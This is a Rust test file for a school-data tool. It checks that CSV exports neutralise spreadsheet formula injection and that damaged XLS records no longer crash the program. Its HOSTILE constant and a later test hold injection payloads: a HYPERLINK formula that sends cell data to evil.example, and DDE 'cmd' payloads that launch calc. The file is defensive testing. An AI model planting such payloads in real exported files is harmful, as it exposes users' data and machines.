//! Hostile and unlucky inputs (issue 17): formulas in every CSV the product writes, damaged
//! workbooks that used to abort the process, files beyond the reading budgets (generated here,
//! never committed), over-long texts. Each case failed before the fix it names.

mod common;

use dtk_calc::core::identify::Settings;
use dtk_calc::core::load::{load, LoadOptions};
use dtk_calc::core::{export, overview, report, schools, template};

/// What a spreadsheet would run when the CSV is opened: a cell whose first character (or first
/// after a leading tab/CR, which spreadsheets trim) starts a formula.
fn live_formulas(csv: &[u8]) -> Vec<String> {
    let text = String::from_utf8(csv.to_vec()).unwrap();
    // The product's own reader strips the guard; read the raw cells instead.
    let mut out = Vec::new();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for rec in reader.records() {
        for cell in rec.unwrap().iter() {
            let t = cell.trim_start_matches(['\t', '\r', ' ']);
            let number = t
                .trim_start_matches(['-', '+'])
                .replace(',', ".")
                .parse::<f64>()
                .is_ok();
            if t.starts_with(['=', '+', '-', '@']) && !number && t != "-" {
                out.push(cell.to_string());
            }
        }
    }
    out
}

const HOSTILE: [(&str, &str); 4] = [
    (
        "school.name",
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"Нажмите\")",
    ),
    ("school.code", "\t=cmd|' /C calc'!A0"),
    ("school.municipality", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("school.region", "+7 (999) 123-45-67"),
];

/// The example school with hostile texts in its metadata.
fn hostile_school_csv() -> String {
    let mut text = String::from_utf8(template::EXAMPLE_SCHOOL.to_vec()).unwrap();
    for (code, value) in HOSTILE {
        let start = text.find(&format!("\n{code};")).unwrap() + 1;
        let end = start + text[start..].find('\n').unwrap();
        let label = text[start..end].split(';').nth(1).unwrap().to_string();
        let quoted = format!("\"{}\"", value.replace('"', "\"\""));
        text.replace_range(start..end, &format!("{code};{label};{quoted};;"));
    }
    text
}

/// The report CSV (page button and `dtk report --csv`) guards every formula-like cell, and
/// re-opens as the identical report: the reader strips the guard.
#[test]
fn report_csv_guards_formulas_and_reopens_as_the_same_report() {
    let first = load(hostile_school_csv().as_bytes(), &LoadOptions::default()).unwrap();
    let school = &first.schools[0];
    assert_eq!(school.meta.name.as_deref(), Some(HOSTILE[0].1));
    let r = report::build(school, &Settings::default(), &first.diagnostics);
    let csv = export::report_csv(&r);
    assert_eq!(live_formulas(&csv), Vec::<String>::new());
    let text = String::from_utf8(csv.clone()).unwrap();
    assert!(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Нажмите\"\")\""));
    assert!(
        text.contains(";'=cmd|' /C calc'!A0;"),
        "a trimmed tab must not make it live"
    );
    let again = load(&csv, &LoadOptions::default()).unwrap();
    let r2 = report::build(&again.schools[0], &Settings::default(), &again.diagnostics);
    assert_eq!(again.schools[0].meta, school.meta);
    assert_eq!(
        export::report_csv(&r2),
        csv,
        "the same report, byte for byte"
    );
}

/// The schools CSV and the template go through the same writer.
#[test]
fn schools_csv_and_template_are_guarded_too() {
    let file = "ОО;муниципалитет;учебный год;процедура;предмет;класс;участников;не справились\n\
        \"=HYPERLINK(\"\"http://evil\"\")\";\t@cmd;2022-2023;ВПР;математика;5;30;12\n\
        -2+3;Южный;2022-2023;ВПР;математика;5;30;1\n";
    let loaded = load(file.as_bytes(), &LoadOptions::default()).unwrap();
    let summary = schools::summarize(&loaded.schools, &Settings::default());
    let rows: Vec<usize> = (0..summary.schools.len()).collect();
    let csv = overview::to_csv(&summary, &loaded.info, &rows);
    assert_eq!(live_formulas(&csv), Vec::<String>::new());
    let text = String::from_utf8(csv).unwrap();
    assert!(text.contains("'-2+3;"), "{text}");
    let tpl = template::template_csv(&[dtk_calc::core::model::Year(2022)]);
    assert_eq!(live_formulas(&tpl), Vec::<String>::new());
}

// =============================================================================================
// Damaged XLS: records calamine trusts

/// `tests/fixtures/messy/s15_template.xls` with its CodePage record (and the DSF after it)
/// rewritten as an empty record of type `typ` plus an ignored filler record: 12 bytes changed.
/// An empty CodePage, FilePass or DateMode record made calamine panic (`utils.rs:45`), and with
/// `panic = "abort"` the CLI died with rc 134.
fn damaged_xls(typ: u16) -> Vec<u8> {
    let mut bytes = std::fs::read(common::fixture("messy/s15_template.xls")).unwrap();
    let at = bytes
        .windows(6)
        .position(|w| w == [0x42, 0x00, 0x02, 0x00, 0xB0, 0x04])
        .expect("the fixture's CodePage record");
    let [t0, t1] = typ.to_le_bytes();
    // Empty record `typ`, then record 0x01C0 (ignored) holding the 4 bytes left over.
    bytes[at..at + 12].copy_from_slice(&[t0, t1, 0, 0, 0xC0, 0x01, 4, 0, 0xB0, 0x04, 0x61, 0x01]);
    bytes
}

#[test]
fn empty_biff_records_are_a_damaged_file_not_a_panic() {
    for (typ, name) in [
        (0x0042, "CodePage"),
        (0x002F, "FilePass"),
        (0x0022, "DateMode"),
    ] {
        let bytes = damaged_xls(typ);
        let err = load(&bytes, &LoadOptions::default())
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("файл похож на XLS (Excel 97–2003), но прочитать его не удалось")
                && err.contains(&format!("запись {name}"))
                && err.contains("обрезана"),
            "{err}"
        );
    }
}

/// The release CLI must unwind, so a panic in a reader is caught: `panic = "abort"` in
/// `[profile.release]` made `dtk` die with rc 134 on a damaged XLS.
#[test]
fn release_profile_unwinds() {
    let toml = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.toml")).unwrap();
    let release = toml.split("[profile.release]").nth(1).unwrap();
    let release = release.split("\n[").next().unwrap();
    assert!(
        !release
            .lines()
            .any(|l| l.trim().starts_with("panic") && l.contains("abort")),
        "{release}"
    );
}
